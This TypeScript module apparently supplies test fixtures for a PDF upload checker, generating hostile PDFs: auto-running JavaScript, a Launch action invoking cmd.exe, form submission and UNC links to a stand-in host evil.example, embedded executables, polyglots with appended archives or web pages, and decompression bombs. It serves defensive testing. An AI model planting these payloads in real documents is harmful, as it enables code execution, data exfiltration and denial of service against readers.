import { deflateSync } from 'node:zlib';
import { PDFName, PDFString } from '@cantoo/pdf-lib';
import { pdfkitPdf, pdfLibPdf, savedTwice } from './honest-files.ts';
import { archive, type HostileFile, page } from './hostile-file.ts';
import { streamOf, writtenPdf } from './written-pdf.ts';

const script = '<< /S /JavaScript /JS (app.launchURL\\("https://evil.example"\\)) >>';
const empty = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';

/** A PDF with one more object, whatever leads to it. */
const withObject = (object: string | Buffer) => writtenPdf({ objects: [object] });

/** A PDF with one more annotation. */
const withAnnotation = (annotation: string) => writtenPdf({ page: `/Annots [${annotation}]` });

const linkTo = (action: string) =>
  withAnnotation(`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`);

/** A PDF whose objects are folded, one of them as told. */
const withFolded = (entries: Readonly<Record<string, string>>) =>
  pdfLibPdf(({ context }) => {
    const typed = Object.entries(entries).map(([name, value]) => [name, PDFString.of(value)] as const);
    const dictionary = context.obj({});
    for (const [name, value] of typed) dictionary.set(PDFName.of(name), value);
    dictionary.set(PDFName.of('S'), PDFName.of('JavaScript'));
    context.register(dictionary);
  });

/** PDFs that do something by themselves, carry other files, or lead to some. */
export async function activePdfs(): Promise<readonly HostileFile[]> {
  const escaped = '<< /#53 /J#61vaScr#69pt /#4aS (app.alert\\(1\\)) >>';
  const embedded = streamOf('MZ', '/Type /EmbeddedFile');
  const files: Readonly<Record<string, Buffer>> = {
    'runs a program when it opens': writtenPdf({ catalog: '/OpenAction 4 0 R', objects: [script] }),
    'runs a program whose name is written in another way': writtenPdf({
      catalog: '/#4fpenAction 4 0 R',
      objects: [escaped],
    }),
    'keeps its program folded': await withFolded({ JS: 'app.alert(1)' }),
    'keeps a program by name': writtenPdf({
      catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>',
      objects: [script],
    }),
    'keeps a program that nothing leads to': withObject(script),
    'keeps a program that a later version of it has taken out': await savedTwice(
      withObject(script),
      4,
      'null',
    ),
    'got a program in a later version': await savedTwice(
      writtenPdf({}),
      3,
      empty.replace('>>', `/AA << /O ${script} >> >>`),
    ),
    'acts when a page is turned': writtenPdf({ page: '/AA << /O << /S /Named /N /Print >> >>' }),
    'acts when a field is filled in': withAnnotation(
      '<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K 1 0 R >> >>',
    ),
    'prints itself when it opens': writtenPdf({ catalog: '/OpenAction << /S /Named /N /Print >>' }),
    'starts a program of the machine': linkTo(
      '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
    ),
    'sends what is filled in somewhere': linkTo(
      '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>',
    ),
    'fills itself in from a file': linkTo('<< /S /ImportData /F (donnees.fdf) >>'),
    'opens another document': linkTo('<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>'),
    'opens a document within it': linkTo('<< /S /GoToE /T << /R /C /N (a) >> >>'),
    'leads to a file of the machine': linkTo('<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>'),
    'leads to a program in an address': linkTo('<< /S /URI /URI (javascript:alert\\(1\\)) >>'),
    'leads to a shared folder': linkTo('<< /S /URI /URI (\\\\\\\\evil.example\\\\share) >>'),
    'takes all its links as files of the machine': writtenPdf({ catalog: '/URI << /Base (file:///C:/) >>' }),
    'carries another file': writtenPdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>',
      objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', embedded],
    }),
    'carries a file that it does not name': withObject(embedded),
    'has a file pinned to its page': withAnnotation(
      '<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) >>',
    ),
    'plays a rich medium': withAnnotation('<< /Subtype /RichMedia /Rect [0 0 9 9] >>'),
    'plays a film': withAnnotation('<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>'),
    'plays a sound': linkTo('<< /S /Sound /Sound 1 0 R >>'),
    'plays something on a screen': withAnnotation('<< /Subtype /Screen /Rect [0 0 9 9] >>'),
    'turns a body in space': withAnnotation('<< /Subtype /3D /Rect [0 0 9 9] >>'),
    'is a form of the kind that is a program': writtenPdf({
      catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>',
      objects: [streamOf('<xdp/>')],
    }),
    'draws what lies elsewhere': writtenPdf({
      page: '/Contents 4 0 R',
      objects: [streamOf('', '/F (https://evil.example/a)')],
    }),
    'draws a page of another file': withObject(
      streamOf('', '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (a.pdf) /Page 0 >>'),
    ),
  };
  return Object.entries(files).map(([what, bytes]) => ({
    name: `a PDF that ${what}`,
    bytes,
    fault: 'ACTIVE',
  }));
}

/** PDFs that are not to be read, or something else besides. */
export async function closedPdfs(): Promise<readonly HostileFile[]> {
  const plain = writtenPdf({});
  const hidden = `9 0 obj ${script} endobj`;
  const misled = { catalog: '/OpenAction 4 0 R', misled: { 4: hidden } } as const;
  return [
    {
      name: 'a PDF with a password',
      bytes: await pdfkitPdf({ userPassword: 'geheim', pdfVersion: '1.7' }),
      fault: 'PROTECTED',
    },
    {
      name: 'a PDF that may not be changed',
      bytes: await pdfkitPdf({ ownerPassword: 'geheim', pdfVersion: '1.4' }),
      fault: 'PROTECTED',
    },
    {
      name: 'a PDF that hides a program in a drawing',
      bytes: writtenPdf({ ...misled, objects: ['null', streamOf(hidden)] }),
      fault: 'DISGUISED',
    },
    {
      name: 'a PDF that hides a program in a text',
      bytes: writtenPdf({ ...misled, objects: ['null', `(${hidden})`] }),
      fault: 'DISGUISED',
    },
    {
      name: 'a PDF that hides a program in a remark',
      bytes: writtenPdf({ ...misled, objects: ['null'], remark: `%${hidden}\n` }),
      fault: 'DISGUISED',
    },
    {
      name: 'a PDF with a page of the web behind it',
      bytes: Buffer.concat([plain, Buffer.from(page)]),
      fault: 'DISGUISED',
    },
    {
      name: 'a PDF with a page of the web in its first lines',
      bytes: writtenPdf({ remark: `%${page.replaceAll('\n', ' ')}\n` }),
      fault: 'DISGUISED',
    },
    { name: 'a PDF with an archive behind it', bytes: Buffer.concat([plain, archive()]), fault: 'DISGUISED' },
    {
      name: 'a PDF around an archive',
      bytes: writtenPdf({ objects: [streamOf(archive('the rest of the PDF'))] }),
      fault: 'DISGUISED',
    },
    {
      name: 'a PDF with a program behind it',
      bytes: Buffer.concat([plain, Buffer.from('MZ\x90\0\x03')]),
      fault: 'DISGUISED',
    },
    { name: 'a PDF that breaks off', bytes: plain.subarray(0, 200), fault: 'DAMAGED' },
    {
      name: 'a PDF of which a piece is missing in the middle',
      bytes: Buffer.concat([plain.subarray(0, 90), plain.subarray(140)]),
      fault: 'DAMAGED',
    },
    {
      name: 'a PDF without a page',
      bytes: Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
      fault: 'DAMAGED',
    },
    {
      name: 'a PDF of brackets within brackets',
      bytes: writtenPdf({ objects: ['['.repeat(100_000)] }),
      fault: 'DAMAGED',
    },
  ];
}

/** PDFs that get far larger than they are. */
export function bloatedPdfs(): readonly HostileFile[] {
  const zeros = deflateSync(Buffer.alloc(300 * 1024 * 1024), { level: 1 });
  const asText = Buffer.from(`${zeros.toString('hex')}>`);
  const objects = deflateSync(Buffer.alloc(40 * 1024 * 1024, ' '), { level: 1 });
  const bombed = withObject(streamOf(objects, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'));
  const drawing = (contents: Buffer, entries: string) =>
    writtenPdf({ page: '/Contents 4 0 R', objects: [streamOf(contents, entries)] });
  const pages = Array.from({ length: 1001 }, () => empty);
  const files: Readonly<Record<string, Buffer>> = {
    'whose drawing unfolds to 300 MiB': drawing(zeros, '/Filter /FlateDecode'),
    'whose drawing is text that unfolds to 300 MiB': drawing(asText, '/Filter [/AHx /Fl]'),
    'whose drawing is folded twice': drawing(deflateSync(zeros), '/Filter [/FlateDecode /FlateDecode]'),
    'whose objects unfold to 40 MiB': bombed,
    'whose drawing is folded in the old way, and large': drawing(
      Buffer.alloc(250_000, 1),
      '/Filter /LZWDecode',
    ),
    'with a picture of a million points by a million': writtenPdf({
      objects: [streamOf('', '/Subtype /Image /Width 1000000 /Height 1000000 /Filter /JBIG2Decode')],
    }),
    'of 1002 pages': writtenPdf({ objects: pages }),
  };
  return Object.entries(files).map(([what, bytes]) => ({ name: `a PDF ${what}`, bytes, fault: 'BLOATED' }));
}
